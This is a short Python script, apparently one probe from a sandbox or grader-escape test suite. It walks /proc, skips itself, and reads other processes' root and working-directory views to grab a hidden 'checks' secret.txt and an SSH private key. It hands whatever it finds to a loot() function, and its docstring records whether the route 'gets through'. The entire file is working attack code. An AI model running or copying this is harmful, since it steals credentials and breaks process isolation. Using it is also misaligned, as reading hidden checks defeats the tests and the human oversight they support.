"""Reads the checks through the folders and open files of other processes.

no effect
gets through at: process
"""

import glob

from host import HOST, loot
from right import serve

for base in glob.glob("/proc/[0-9]*"):
    if base.endswith("/self"):
        continue
    for path in (f"{base}/root{HOST['checks']}/secret.txt", f"{base}/cwd/home/.ssh/id"):
        try:
            loot(open(path).read())
        except OSError:
            pass
serve()
